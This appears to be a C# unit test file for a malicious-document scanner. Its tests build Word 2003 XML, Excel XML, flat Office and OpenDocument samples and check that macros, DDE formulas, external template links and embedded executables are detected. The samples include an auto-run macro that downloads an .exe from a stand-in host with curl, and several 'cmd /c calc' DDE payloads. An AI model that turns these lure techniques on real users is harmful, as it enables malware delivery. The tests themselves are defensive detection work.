using System.Text;
using Lurewatch.Files;
using Lurewatch.Files.Office;
using Lurewatch.Samples;
using Lurewatch.Samples.Office;
using Shouldly;
using Xunit;

namespace Lurewatch.Tests.Files.Office;

/// <summary>Documents as one XML file, and OpenDocument.</summary>
public sealed class OtherOfficeTests
{
    private static Analysis Scan(byte[] file, string name) => new MailScanner(new ScanOptions { Strict = true }).Scan(file, name);

    private static IEnumerable<string> Fetched(Analysis analysis) => analysis.Indicators.Where(indicator => indicator is { Type: IndicatorType.Url, Role: "download-url" }).Select(indicator => indicator.Value);

    private const string Downloader = "Sub Main\n  Shell(\"cmd /c curl http://one.example/a.exe -o a.exe\", 0)\nEnd Sub\n";

    [Fact]
    public void A_package_in_one_xml_file_is_opened_as_the_package_that_it_is()
    {
        var package = OfficePackage.Word(OfficePackage.Paragraph("Loading")).Xml("word/settings.xml", "<w:settings xmlns:w=\"x\"/>").Relate("word/document.xml", "settings", "settings.xml")
            .Relate("word/settings.xml", "attachedTemplate", "http://template.example/a.dotm", external: true).Macros(new VbaProjectWriter().Add("Module1", "Sub A()\r\nEnd Sub\r\n").ToBin());
        var analysis = Scan(package.ToFlat(), "invoice.xml");
        Fetched(analysis).ShouldContain("http://template.example/a.dotm");
        analysis.Artifacts.ShouldContain(file => file.Type == FileType.Vba);
        analysis.Artifacts[0].Facts.ShouldBeOfType<OfficeFacts>().HasMacros.ShouldBeTrue();
        analysis.Artifacts[1].Type.ShouldBe(FileType.Docm);
    }

    [Fact]
    public void Word_2003_s_xml_gives_fields_links_and_packed_objects()
    {
        var xml = "<?xml version=\"1.0\"?><?mso-application progid=\"Word.Document\"?><w:wordDocument xmlns:w=\"http://schemas.microsoft.com/office/word/2003/wordml\" w:macrosPresent=\"yes\"><w:docPr><w:attachedTemplate w:val=\"http://template.example/a.dot\"/></w:docPr>"
            + "<w:binData w:name=\"editdata.mso\">" + Convert.ToBase64String("ActiveMime and more"u8) + "</w:binData><w:body><w:p>" + OfficePackage.Field("DDEAUTO cmd \"/c calc\"") + "<w:hlink w:dest=\"http://link.example/\"><w:r><w:t>here</w:t></w:r></w:hlink></w:p></w:body></w:wordDocument>";
        var analysis = Scan(Encoding.UTF8.GetBytes(xml), "a.doc");
        Fetched(analysis).ShouldContain("http://template.example/a.dot");
        analysis.Artifacts.ShouldContain(file => file.Origin == "command");
        analysis.Artifacts.ShouldContain(file => file.Type == FileType.ActiveMime && file.Name == "editdata.mso");
        var facts = analysis.Artifacts[0].Facts.ShouldBeOfType<OfficeFacts>();
        facts.HasMacros.ShouldBeTrue();
        facts.Links.ShouldHaveSingleItem().UrlText.ShouldBe("http://link.example/");
    }

    [Fact]
    public void Excel_2003_s_xml_gives_formulas_that_run_programs()
    {
        const string xml = "<?xml version=\"1.0\"?><Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\" xmlns:ss=\"urn:schemas-microsoft-com:office:spreadsheet\"><Worksheet ss:Name=\"A\"><Table><Row><Cell ss:Formula=\"=cmd|'/c calc'!A1\"/></Row></Table></Worksheet></Workbook>";
        Scan(Encoding.UTF8.GetBytes(xml), "a.xls").Findings.ShouldContain(finding => finding.Kind.Id == "office.dde");
    }

    [Fact]
    public void Other_xml_is_text() => Scan("<?xml version=\"1.0\"?><package><url>http://one.example/</url></package>"u8.ToArray(), "a.xml").Indicators.ShouldContain(indicator => indicator.Role == "link");

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public void Basic_of_an_open_document_is_read_with_the_event_that_starts_it(bool flat)
    {
        const string body = "<text:p>Enable macros <text:a xlink:href=\"http://link.example/\">here</text:a></text:p>";
        var analysis = Scan(flat ? OpenDocument.Flat(body, [("Module1", Downloader)], "Module1.Main") : OpenDocument.Text(body, [("Module1", Downloader)], "Module1.Main"), "a.odt");
        Fetched(analysis).ShouldContain("http://one.example/a.exe");
        var facts = analysis.Artifacts[0].Facts.ShouldBeOfType<OfficeFacts>();
        facts.Events.ShouldBe([new MacroEvent("dom:load", "vnd.sun.star.script:Standard.Module1.Main?language=Basic&location=document")]);
        facts.Links.ShouldHaveSingleItem().UrlText.ShouldBe("http://link.example/");
        analysis.Findings.ShouldContain(finding => finding.Kind.Id == "office.macro-runs-itself-and-executes");
    }

    [Fact]
    public void An_open_document_without_code_has_no_macros()
    {
        var analysis = Scan(OpenDocument.Text("<text:p>Guten Tag</text:p>"), "a.odt");
        analysis.Artifacts[0].Facts.ShouldBeOfType<OfficeFacts>().HasMacros.ShouldBeFalse();
        analysis.Artifacts.Count.ShouldBe(1);
    }

    [Fact]
    public void An_open_document_s_exchange_objects_and_scripts_come_out()
    {
        byte[] program = [.. "MZ"u8, .. new byte[200]];
        var body = "<table:table><table:table-row><table:table-cell table:formula=\"of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;x&quot;)\"/></table:table-row></table:table><draw:frame><draw:image xlink:href=\"http://picture.example/p.png\"/></draw:frame>";
        var analysis = Scan(OpenDocument.Text(body, more: [("Object 1", program), ("Scripts/python/run.py", "import os"u8.ToArray())]), "a.ods");
        analysis.Findings.ShouldContain(finding => finding.Kind.Id == "office.dde");
        analysis.Artifacts.ShouldContain(file => file.Origin == "embedded" && file.Name == "Object 1");
        analysis.Artifacts.ShouldContain(file => file.Origin == "script" && file.Name == "run.py");
        Fetched(analysis).ShouldContain("http://picture.example/p.png");
    }

    [Fact]
    public void An_encrypted_open_document_is_said_to_be_unopened()
    {
        var file = MacroDocument.Zip([("mimetype", "application/vnd.oasis.opendocument.text"u8.ToArray()), ("META-INF/manifest.xml", "<manifest:manifest><manifest:file-entry><manifest:encryption-data/></manifest:file-entry></manifest:manifest>"u8.ToArray()), ("content.xml", new byte[100])]);
        Scan(file, "a.odt").Artifacts[0].Unopened.ShouldBe("encrypted");
    }
}
